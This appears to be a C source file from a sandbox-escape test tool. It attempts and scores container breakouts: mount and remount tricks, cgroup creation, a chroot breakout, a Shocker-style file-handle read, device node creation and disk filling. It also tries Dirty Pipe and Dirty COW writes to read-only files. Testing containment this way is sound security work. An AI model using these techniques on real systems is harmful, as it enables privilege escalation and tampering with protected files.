/* SPDX-License-Identifier: Apache-2.0 */
/* Group B, first half: mounts, devices, handles and the root directory. */
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <unistd.h>

#include "attack.h"

/* <sys/mount.h> and <linux/mount.h> cannot both be included with older libraries. */
int mount(const char *source, const char *target, const char *type, unsigned long flags,
          const void *data);
int umount2(const char *target, int flags);
#define FLAG_RDONLY 1UL
#define FLAG_REMOUNT 32UL
#define FLAG_BIND 4096UL
#define FLAG_DETACH 2

#ifndef SYS_mount_setattr
#define SYS_mount_setattr 442
#endif

/* ---- Mounting ---- */

static int mount_tmpfs(char **arg)
{
    return verdict(mount("none", arg[0], "tmpfs", 0, NULL) == 0, "mounted a tmpfs");
}

static int mount_bind(char **arg)
{
    return verdict(mount(arg[0], arg[1], NULL, FLAG_BIND, NULL) == 0, "bound a directory");
}

static int remount_rw(char **arg)
{
    bool ok = mount(NULL, arg[0], NULL, FLAG_REMOUNT | FLAG_BIND, NULL) == 0;
    int fd = ok ? open(text("%s/pwned", arg[0]), O_CREAT | O_WRONLY | O_CLOEXEC, 0666) : -1;

    return verdict(fd >= 0, text("made %s writable", arg[0]));
}

/* Take off what covers a directory, and read what is below. */
static int uncover(char **arg)
{
    char buf[64];
    bool ok = umount2(arg[0], FLAG_DETACH) == 0;

    return verdict(ok && slurp(arg[1], buf, sizeof buf) > 0, text("uncovered %s", arg[0]));
}

static int pivot(char **arg)
{
    mount("none", arg[0], "tmpfs", 0, NULL);
    mkdir(text("%s/old", arg[0]), 0755);
    return verdict(syscall(SYS_pivot_root, arg[0], text("%s/old", arg[0])) == 0, "pivoted");
}

static int change_root(char **arg)
{
    return verdict(chroot(arg[0]) == 0, "chroot");
}

static int fs_open(char **arg)
{
    (void)arg;
    int fs = (int)syscall(SYS_fsopen, "tmpfs", 0);
    if (fs < 0)
        return verdict(false, "fsopen");
    need(syscall(SYS_fsconfig, fs, FSCONFIG_CMD_CREATE, NULL, NULL, 0) == 0, "fsconfig");
    return verdict(syscall(SYS_fsmount, fs, 0, 0) >= 0, "fsmount");
}

static int open_tree_clone(char **arg)
{
    long fd = syscall(SYS_open_tree, AT_FDCWD, arg[0], OPEN_TREE_CLONE | AT_RECURSIVE);

    return verdict(fd >= 0, text("open_tree of %s", arg[0]));
}

static int move_tree(char **arg)
{
    int fd = open(arg[0], O_PATH | O_CLOEXEC);

    need(fd >= 0, arg[0]);
    long tree = syscall(SYS_open_tree, AT_FDCWD, arg[0], OPEN_TREE_CLONE);
    int from = tree >= 0 ? (int)tree : fd;
    return verdict(syscall(SYS_move_mount, from, "", AT_FDCWD, arg[0], MOVE_MOUNT_F_EMPTY_PATH) ==
                       0,
                   "move_mount");
}

static int set_attributes(char **arg)
{
    struct mount_attr attr = {.attr_clr = MOUNT_ATTR_RDONLY};

    return verdict(syscall(SYS_mount_setattr, AT_FDCWD, arg[0], 0, &attr, sizeof attr) == 0,
                   text("mount_setattr of %s", arg[0]));
}

static int overlay(char **arg)
{
    const char *dir = arg[0];

    mkdir(text("%s/upper", dir), 0755);
    mkdir(text("%s/ovl", dir), 0755);
    mkdir(text("%s/merged", dir), 0755);
    return verdict(
        mount("none", text("%s/merged", dir), "overlay", 0,
              text("lowerdir=/usr,upperdir=%s/upper,workdir=%s/ovl,userxattr", dir, dir)) == 0,
        "mounted an overlay");
}

static int fuse(char **arg)
{
    int fd = open("/dev/fuse", O_RDWR | O_CLOEXEC);

    if (fd < 0)
        return held("/dev/fuse: %s (errno %d)", strerror(errno), errno);
    const char *options = text("fd=%d,rootmode=40000,user_id=%d,group_id=%d", fd, (int)getuid(),
                               (int)getgid());
    return verdict(mount("none", arg[0], "fuse", 0, options) == 0, "mounted FUSE");
}

/* ---- Cgroups ---- */

static int cgroup_mount(char **arg)
{
    if (mount("none", arg[0], "cgroup2", 0, NULL) == 0)
        return escaped("mounted cgroup2");
    return verdict(mount("none", arg[0], "cgroup", 0, "memory") == 0, "mounted a cgroup hierarchy");
}

static int cgroup_in(const char *dir, const char *name, void *arg)
{
    const char *made = text("%s/%s/hutch-escape-%d", dir, name, (int)getpid());

    (void)arg;
    if (mkdir(made, 0755) < 0)
        return 0;
    rmdir(made);
    return escaped("made a cgroup in %s/%s", dir, name);
}

static int cgroup_make(char **arg)
{
    (void)arg;
    if (cgroup_in("/sys/fs", "cgroup", NULL) || each_name("/sys/fs/cgroup", cgroup_in, NULL))
        return ESCAPED;
    return held("no cgroup can be made: %s (errno %d)", strerror(errno), errno);
}

/* ---- Ways out of a root ---- */

/* The old way: a descriptor kept over chroot, and many steps up. */
static int breakout(char **arg)
{
    char buf[64];
    int dir = open("/", O_PATH | O_DIRECTORY | O_CLOEXEC);

    mkdir("cell", 0755);
    if (chroot("cell") < 0)
        return held("chroot: %s (errno %d)", strerror(errno), errno);
    need(fchdir(dir) == 0, "fchdir");
    for (int i = 0; i < 64; i++)
        need(chdir("..") == 0, "chdir");
    need(chroot(".") == 0, "chroot");
    return verdict(slurp(arg[0], buf, sizeof buf) > 0, text("broke out to %s", arg[0]));
}

/* File handles reach any file of a file system, whatever is mounted where (Shocker). */
static int by_handle(char **arg)
{
    struct {
        struct file_handle head;
        unsigned char bytes[128];
    } handle = {.head.handle_bytes = 128};
    int mount_id = 0;

    if (name_to_handle_at(AT_FDCWD, arg[0], &handle.head, &mount_id, 0) < 0)
        return held("name_to_handle_at: %s (errno %d)", strerror(errno), errno);
    int dir = open(arg[0], O_RDONLY | O_CLOEXEC);
    return verdict(open_by_handle_at(dir, &handle.head, O_RDONLY | O_CLOEXEC) >= 0,
                   "opened a file by its handle");
}

/* The mount namespaces before ours, through the descriptor of ours. */
static int other_mount_ns(char **arg)
{
    struct {
        uint32_t size;
        uint32_t mounts;
        uint64_t id;
    } info = {.size = sizeof info};
    int ns = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);

    (void)arg;
    if (ns < 0)
        return held("open ns/mnt: %s (errno %d)", strerror(errno), errno);
    for (unsigned nr = 11; nr <= 12; nr++)
        if (ioctl(ns, _IOC(_IOC_READ, 0xb7, nr, sizeof info), &info) >= 0)
            return escaped("reached another mount namespace with %u mounts", info.mounts);
    if (errno == ENOTTY)
        return absent("this kernel cannot walk mount namespaces");
    return held("walk to another mount namespace: %s (errno %d)", strerror(errno), errno);
}

/* ---- Devices ---- */

static int make_device(char **arg)
{
    bool block = arg[0][0] == 'b';
    dev_t dev = makedev((unsigned)number(arg[1]), (unsigned)number(arg[2]));

    return verdict(mknod(arg[3], (block ? S_IFBLK : S_IFCHR) | 0666, dev) == 0,
                   "made a device node");
}

static int open_device(char **arg)
{
    char byte;
    int fd = open(arg[0], O_RDONLY | O_CLOEXEC | O_NONBLOCK);

    return verdict(fd >= 0 && read(fd, &byte, 1) >= 0, text("read from device %s", arg[0]));
}

static int odd_device(const char *dir, const char *name, void *arg)
{
    static const char *const known[] = {"null",    "zero", "full", "random",
                                        "urandom", "tty",  "ptmx", "console"};
    struct stat st;

    (void)arg;
    if (lstat(text("%s/%s", dir, name), &st) < 0)
        return 0;
    for (size_t i = 0; i < sizeof known / sizeof *known; i++)
        if (S_ISCHR(st.st_mode) && strcmp(name, known[i]) == 0)
            return 0;
    if (S_ISCHR(st.st_mode) || S_ISBLK(st.st_mode))
        return escaped("device %s/%s", dir, name);
    return 0;
}

static int device_list(char **arg)
{
    (void)arg;
    if (each_name("/dev", odd_device, NULL) || each_name("/dev/net", odd_device, NULL))
        return ESCAPED;
    return held("/dev has the usual devices only");
}

/* ---- Filling up, and the page cache ---- */

static int fill(char **arg)
{
    static char block[1 << 20];
    long most = number(arg[1]);
    int fd = open(text("%s/filled", arg[0]), O_CREAT | O_WRONLY | O_CLOEXEC, 0666);

    need(fd >= 0, arg[0]);
    for (long i = 0; i < most; i++)
        if (write(fd, block, sizeof block) < 0)
            return held("stopped after %ld MiB: %s (errno %d)", i, strerror(errno), errno);
    return done("wrote %ld MiB", most);
}

/* Dirty Pipe: bytes written to a pipe land in the page of the file that was spliced into it. */
static void spoil_by_pipe(int fd)
{
    static char page[65536];
    int ends[2];
    off_t at = 0;

    need(pipe(ends) == 0, "pipe");
    need(write(ends[1], page, sizeof page) == sizeof page, "fill the pipe");
    need(read(ends[0], page, sizeof page) == sizeof page, "drain the pipe");
    if (splice(fd, &at, ends[1], NULL, 1, 0) == 1)
        need(write(ends[1], "!", 1) == 1, "write to the pipe");
}

/* Dirty COW: write through /proc/self/mem to a private mapping of a file that cannot be written. */
static void spoil_by_mem(int fd)
{
    char *map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
    int mem = open("/proc/self/mem", O_RDWR | O_CLOEXEC);

    for (int i = 0; map != MAP_FAILED && mem >= 0 && i < 100; i++) {
        madvise(map, 4096, MADV_DONTNEED);
        if (pwrite(mem, "!", 1, (off_t)(uintptr_t)map) != 1)
            break;
    }
}

static int page_cache(char **arg)
{
    char before[256];
    char after[256];
    int fd = open(arg[0], O_RDONLY | O_CLOEXEC);
    ssize_t len = slurp(arg[0], before, sizeof before);

    need(fd >= 0 && len > 0, arg[0]);
    spoil_by_pipe(fd);
    spoil_by_mem(fd);
    char *map = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED,
                     open(arg[0], O_RDWR | O_CLOEXEC), 0);
    if (map != MAP_FAILED)
        map[0] = '!';
    need(slurp(arg[0], after, sizeof after) >= 0, arg[0]);
    return memcmp(before, after, (size_t)len) ? escaped("changed %s", arg[0])
                                              : held("%s reads as before", arg[0]);
}

const struct verb root_verbs[] = {
    {"mount-tmpfs", "DIR", 1, mount_tmpfs},
    {"mount-bind", "FROM TO", 2, mount_bind},
    {"remount-rw", "DIR", 1, remount_rw},
    {"uncover", "DIR FILE", 2, uncover},
    {"pivot", "DIR", 1, pivot},
    {"chroot", "DIR", 1, change_root},
    {"fsopen", "", 0, fs_open},
    {"open-tree", "DIR", 1, open_tree_clone},
    {"move-tree", "DIR", 1, move_tree},
    {"mount-setattr", "DIR", 1, set_attributes},
    {"overlay", "DIR", 1, overlay},
    {"fuse", "DIR", 1, fuse},
    {"cgroup-mount", "DIR", 1, cgroup_mount},
    {"cgroup-make", "", 0, cgroup_make},
    {"breakout", "FILE", 1, breakout},
    {"by-handle", "PATH", 1, by_handle},
    {"other-mount-ns", "", 0, other_mount_ns},
    {"make-device", "c|b MAJOR MINOR PATH", 4, make_device},
    {"open-device", "PATH", 1, open_device},
    {"device-list", "", 0, device_list},
    {"fill", "DIR MIB", 2, fill},
    {"page-cache", "FILE", 1, page_cache},
    {0},
};
